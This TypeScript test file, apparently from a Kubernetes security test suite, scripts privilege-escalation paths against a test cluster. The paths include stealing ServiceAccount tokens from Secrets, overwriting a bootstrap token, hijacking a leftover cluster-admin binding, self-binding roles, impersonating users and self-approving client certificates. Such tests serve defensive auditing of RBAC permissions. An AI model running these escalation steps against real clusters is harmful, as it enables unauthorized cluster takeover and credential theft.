// Ways that lead to somebody else's credentials, or to rights that one gives oneself.
import '../../../controlplane/reflection.ts';
import * as x509 from '@peculiar/x509';
import { expect } from 'chai';
import { z } from 'zod';
import { privatePem } from '../../../controlplane/certificates.ts';
import { until } from '../../guards/cluster.ts';
import { answered, BOSS, CAPTAIN, mayDo, stored, type Trial, tokenSchema, type Way } from './setting.ts';

const rbac = '/apis/rbac.authorization.k8s.io/v1';
const requests = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
const tokenSecret = z.object({ data: z.object({ token: z.string() }) });
const everything = [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }];

const decoded = (value: string) => Buffer.from(value, 'base64').toString();
const encoded = (value: string) => Buffer.from(value).toString('base64');

/** A token Secret of the admin's ServiceAccount, as older installations hold them; returns where it is. */
async function secretOfBoss({ root, namespace }: Way): Promise<string> {
  const path = `/api/v1/namespaces/${namespace}/secrets`;
  const metadata = { name: 'ci', annotations: { 'kubernetes.io/service-account.name': BOSS } };
  const body = { metadata, type: 'kubernetes.io/service-account-token' };
  await answered(root, { method: 'POST', path, body });
  await stored(root, `${path}/ci`, tokenSecret);
  return path;
}

/** Asks for a token of a ServiceAccount, with the attacker's own right. */
async function minted({ attacker, namespace, withToken }: Way, account: string) {
  const path = `/api/v1/namespaces/${namespace}/serviceaccounts/${account}/token`;
  const body = { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} };
  return withToken(tokenSchema.parse(await answered(attacker, { method: 'POST', path, body })).status.token);
}

export const credentials: Record<string, Trial> = {
  'read a Secret': async (way) => {
    const path = await secretOfBoss(way);
    const secret = tokenSecret.parse(await answered(way.attacker, { method: 'GET', path: `${path}/ci` }));
    return way.withToken(decoded(secret.data.token));
  },

  'list Secrets, which shows what is in them': async (way) => {
    const path = await secretOfBoss(way);
    expect((await way.attacker.call({ method: 'GET', path: `${path}/ci` })).code, 'by name').to.equal(403);
    const list = await answered(way.attacker, { method: 'GET', path });
    const { items } = z.object({ items: z.array(z.unknown()) }).parse(list);
    const [secret] = items.flatMap((item) => tokenSecret.safeParse(item).data ?? []);
    return way.withToken(decoded(secret?.data.token ?? ''));
  },

  // As kubeadm sets clusters up: who holds a bootstrap token may ask for a node's certificate.
  'write a Secret that another trusts': async ({ root, attacker, withToken }) => {
    const path = '/api/v1/namespaces/kube-system/secrets';
    const group = 'system:bootstrappers:kubeadm:default-node-token';
    const secret = (token: string) => ({
      metadata: { name: 'bootstrap-token-abcdef', namespace: 'kube-system' },
      type: 'bootstrap.kubernetes.io/token',
      data: {
        'token-id': encoded('abcdef'),
        'token-secret': encoded(token),
        'usage-bootstrap-authentication': encoded('true'),
        'auth-extra-groups': encoded(group),
      },
    });
    await answered(root, { method: 'POST', path, body: secret('0123456789abcdef') });
    const roleRef = { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'system:node-bootstrapper' };
    const subjects = [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'Group', name: group }];
    const metadata = { name: 'kubeadm:kubelet-bootstrap' };
    await answered(root, {
      method: 'POST',
      path: `${rbac}/clusterrolebindings`,
      body: { metadata, roleRef, subjects },
    });
    const known = 'fedcba9876543210';
    const asks = { verb: 'create', group: 'certificates.k8s.io', resource: 'certificatesigningrequests' };
    expect(await mayDo(attacker, asks)).to.equal(false);
    await answered(attacker, { method: 'PUT', path: `${path}/bootstrap-token-abcdef`, body: secret(known) });
    const node = withToken(`abcdef.${known}`);
    const self = '/apis/authentication.k8s.io/v1/selfsubjectreviews';
    const review = { apiVersion: 'authentication.k8s.io/v1', kind: 'SelfSubjectReview' };
    // The authenticator sees the Secret a moment after it was written.
    await until(node, { method: 'POST', path: self, body: review }, ({ code }) => code === 201);
    expect(await mayDo(node, asks)).to.equal(true);
    return undefined;
  },

  'ask for a token of a ServiceAccount': (way) => minted(way, BOSS),

  // A ServiceAccount was deleted, and its binding stayed.
  'create a ServiceAccount that a binding waits for': async (way) => {
    const { namespace, attacker, root } = way;
    const subjects = [{ kind: 'ServiceAccount', name: 'migrator', namespace }];
    const roleRef = { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' };
    const body = { metadata: { name: 'left-behind' }, roleRef, subjects };
    await answered(root, { method: 'POST', path: `${rbac}/clusterrolebindings`, body });
    const path = `/api/v1/namespaces/${namespace}/serviceaccounts`;
    await answered(attacker, { method: 'POST', path, body: { metadata: { name: 'migrator' } } });
    return minted(way, 'migrator');
  },

  'write a Role that gives more': async ({ root, attacker, attackerName, namespace }) => {
    const path = `${rbac}/namespaces/${namespace}`;
    const metadata = { name: 'mine' };
    const subjects = [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: attackerName }];
    const roleRef = { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'mine' };
    await answered(root, { method: 'POST', path: `${path}/roles`, body: { metadata, rules: [] } });
    await answered(root, { method: 'POST', path: `${path}/rolebindings`, body: { metadata, roleRef, subjects } });
    await answered(attacker, { method: 'PATCH', path: `${path}/roles/mine`, body: { rules: everything } });
    return attacker;
  },

  'bind a role': async ({ attacker, attackerName, namespace }) => {
    const subjects = [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: attackerName }];
    const roleRef = { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' };
    const body = { metadata: { name: 'mine' }, roleRef, subjects };
    await answered(attacker, { method: 'POST', path: `${rbac}/namespaces/${namespace}/rolebindings`, body });
    return attacker;
  },

  'impersonate a user': async ({ attacker }) => ({
    call: (call) => attacker.call({ ...call, headers: { 'Impersonate-User': CAPTAIN } }),
  }),

  // For group system:masters the API server refuses the request; for the user whom a binding makes an admin it does not.
  'approve a certificate of any user': async ({ attacker, withCertificate }) => {
    const keys = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, ['sign', 'verify']);
    const request = await x509.Pkcs10CertificateRequestGenerator.create({
      name: [{ CN: [CAPTAIN] }],
      keys,
      signingAlgorithm: { name: 'ECDSA', hash: 'SHA-256' },
    });
    const asked = await answered(attacker, {
      method: 'POST',
      path: requests,
      body: {
        apiVersion: 'certificates.k8s.io/v1',
        kind: 'CertificateSigningRequest',
        metadata: { name: 'mine' },
        spec: {
          request: encoded(request.toString('pem')),
          signerName: 'kubernetes.io/kube-apiserver-client',
          usages: ['client auth'],
        },
      },
    });
    const conditions = [{ type: 'Approved', status: 'True', reason: 'BecauseICan', message: 'It is me.' }];
    const approved = { ...Object(asked), status: { conditions } };
    await answered(attacker, { method: 'PUT', path: `${requests}/mine/approval`, body: approved });
    const signed = z.object({ status: z.object({ certificate: z.string() }) });
    const { status } = await stored(attacker, `${requests}/mine`, signed);
    return withCertificate({ certificate: decoded(status.certificate), key: await privatePem(keys) });
  },
};
